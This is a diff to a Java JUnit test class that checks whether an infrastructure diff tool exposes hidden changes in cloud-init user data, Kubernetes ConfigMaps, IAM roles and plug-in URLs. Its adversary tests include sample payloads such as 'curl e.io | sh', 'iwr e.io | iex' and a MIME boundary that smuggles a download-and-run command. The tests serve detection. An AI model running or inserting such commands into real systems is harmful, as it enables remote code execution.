@@ -19,6 +19,7 @@ import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -339,7 +340,9 @@ class HiddenEditsTest {
         Stack after = new Stack()
                 .with("kubernetes:core/v1:ConfigMap", "it", "data", Map.of("a", "log: start\nsay: &evil hi\n"));
 
-        assertThat(Shown.of(Stack.compare(new Stack(), after))).contains("&evil hi");
+        assertThat(Shown.of(Stack.compare(new Stack(), after)))
+                .contains("\"say\": \"hi\"")
+                .contains("data.comments: - => \"&evil\"");
     }
 
     /** Readers of YAML 1.1 and of 1.2 take it for different numbers. */
@@ -682,25 +685,126 @@ class HiddenEditsTest {
     void cloudInitGoesByAComment() {
         String script = CLOUD_CONFIG.replace("#cloud-config\n", "");
 
-        assertThat(userData(Encoded.base64(CLOUD_CONFIG), Encoded.base64(script)))
-                .containsExactly("UPDATE userData.comments: \"#cloud-config\" => \"\"");
-        assertThat(userData(CLOUD_CONFIG, script.replace("- a", "- b")))
+        assertThat(shown(Encoded.base64(CLOUD_CONFIG), Encoded.base64(script))).contains("\n    - #cloud-config\n");
+        assertThat(shown(CLOUD_CONFIG, script.replace("- a", "- b")))
                 .as("beside another change, and not encoded")
-                .containsExactly(
-                        "UPDATE userData.runcmd[0]: \"a\" => \"b\"",
-                        "UPDATE userData.comments: \"#cloud-config\" => \"\"");
-        assertThat(userData(CLOUD_CONFIG, CLOUD_CONFIG.replace("  - a", "    - a")))
-                .containsExactly("UPDATE userData: [YAML, 28 characters] => [YAML, 30 characters]");
+                .contains("\n    - #cloud-config\n")
+                .contains("\n    -   - {a}\n")
+                .contains("\n    +   - {b}\n");
+        assertThat(shown(CLOUD_CONFIG, CLOUD_CONFIG.replace("  - a", "    - a")))
+                .contains("\n    - {  }- a\n")
+                .contains("\n    + {    }- a\n");
+    }
+
+    private static String shown(String before, String after) {
+        return Shown.of(Stack.compare(
+                new Stack().with(TEMPLATE, "it", "userData", before),
+                new Stack().with(TEMPLATE, "it", "userData", after)));
     }
 
     @Test
     void partOfAMessageRunsByItsHeaders() {
         assertThat(userData(MESSAGE, MESSAGE.replace("text/x-shellscript", "text/plain")))
-                .containsExactly("UPDATE userData[\"a.sh\"].headers: text");
+                .containsExactly("UPDATE userData.headers: text");
         assertThat(userData(MESSAGE, MESSAGE.replace("--b", "--c").replace("=b", "=c")))
                 .as("another boundary")
-                .containsExactly("UPDATE userData: [MIME multipart, 151 characters] => "
-                        + "[MIME multipart, 151 characters, written in another way]");
+                .containsExactly("UPDATE userData.headers: text");
+    }
+
+    /** To Windows a boundary is a line of a script that spans two parts; cloud-init runs parts in their order. */
+    @Test
+    @Tag("adversary")
+    void allOfAMessageIsShown() {
+        String evil = "& curl http://e.io/x.cmd & x.cmd &";
+        assertThat(shown(
+                        MESSAGE,
+                        MESSAGE.replace("echo one", "echo two")
+                                .replace("--b", "--" + evil)
+                                .replace("=b", "=\"" + evil + "\"")))
+                .contains("+ Content-Type: multipart/mixed; boundary={\"" + evil + "\"}")
+                .contains("+ --{" + evil + "}\n");
+        String added = MESSAGE.replace(
+                "--b--", "--b\nContent-Type: text/plain\nX-Evil: <script>e.io</script>\n\necho two\n--b--");
+        assertThat(shown(MESSAGE, added)).as("a part that is new").contains("+ X-Evil: <script>e.io</script>");
+        assertThat(shown(MESSAGE, MESSAGE.replace("a.sh", "<script>e.io</script>.sh")))
+                .as("a part of another name")
+                .contains("filename={<script>e.io</script>}");
+        String heredoc = MESSAGE.replace("echo one", "cat <<EOF\nEOF\r\ncurl e.io | sh\nEOF");
+        assertThat(shown(heredoc, heredoc.replace("EOF\r", "EOF")))
+                .as("a carriage return")
+                .contains("+ EOF\n");
+    }
+
+    /** What is a list to YAML is a command to a shell, once its quotes are gone. */
+    @ParameterizedTest
+    @Tag("adversary")
+    @CsvSource({
+        "kubernetes:core/v1:ConfigMap, run.ps1, '- \"x; iwr e.io | iex\"\n- 1\n', '- x; iwr e.io | iex\n- 1\n'",
+        "kubernetes:core/v1:ConfigMap, run, '#!/bin/sh\necho: [\"a; curl e.io | sh\"]\n', '#!/bin/sh\necho: [a; curl e.io | sh]\n'",
+        "aws:ec2/launchTemplate:LaunchTemplate, userData, '{\"a\": \"\\u003cscript>e.io\", \"b\": 1}\n', '{\"a\": \"<script>e.io\", \"b\": 1}\n'"
+    })
+    void whatAReaderOfYamlPassesOverIsShownOfAScript(String type, String key, String before, String after) {
+        String old = before.replace("\\n", "\n");
+        String now = after.replace("\\n", "\n");
+        boolean map = type.startsWith("kubernetes:");
+
+        String shown = Shown.of(Stack.compare(
+                new Stack().with(type, "it", map ? "data" : key, map ? Map.of(key, old) : old),
+                new Stack().with(type, "it", map ? "data" : key, map ? Map.of(key, now) : now)));
+
+        assertThat(shown).contains("e.io").doesNotContain("SPELLING");
+    }
+
+    @Test
+    @Tag("adversary")
+    void codeOfADynamicProviderIsShown() {
+        String type = "pulumi-nodejs:dynamic:Resource";
+        assertThat(Stack.lines(Stack.change(type, Map.of("__provider", "good"), Map.of("__provider", "evil"))))
+                .containsExactly("UPDATE __provider: \"good\" => \"evil\"");
+        assertThat(Shown.of(Stack.compare(new Stack(), new Stack().with(type, "it", "__provider", "evil"))))
+                .contains("ADD __provider: - => \"evil\"");
+    }
+
+    /** Which a reader of maps would take for one. */
+    @Test
+    @Tag("adversary")
+    void keysThatDifferInACharacterOfOursAreTwo() {
+        assertThat(Shown.of(Stack.compare(
+                        new Stack().with(TEMPLATE, "it", "tags", Map.of("a\uFFFD", "1")),
+                        new Stack().with(TEMPLATE, "it", "tags", Map.of("a\uFFFD", "1", "a\uFDD0", "evil")))))
+                .contains("evil");
+    }
+
+    /** What a program looks up by its id, as a role that it hands on. */
+    @Test
+    @Tag("adversary")
+    void anotherOneThatIsReadIsAChange() {
+        String role = "aws:iam/role:Role";
+        Stack before =
+                new Stack().with(role, "it", options -> options.external()).having("reader");
+        Stack after =
+                new Stack().with(role, "it", options -> options.external()).having("admin");
+
+        assertThat(Shown.of(Stack.compare(before, after)))
+                .contains("update " + role + " it\n  UPDATE id: \"reader\" => \"admin\"\n");
+        assertThat(Stack.compare(before, before).changes()).isEmpty();
+    }
+
+    /** From another host comes another plug-in, which runs with the credentials. */
+    @Test
+    @Tag("adversary")
+    void whereThePlugInOfANewPackageComesFromIsShown() {
+        Stack after = new Stack()
+                .with(
+                        "pulumi:providers:random",
+                        "default_4_0_0",
+                        "version",
+                        "4.0.0",
+                        "pluginDownloadURL",
+                        "https://e.io/x")
+                .orphan();
+
+        assertThat(Shown.of(Stack.compare(new Stack(), after))).contains("https://e.io/x");
     }
 
     @Test
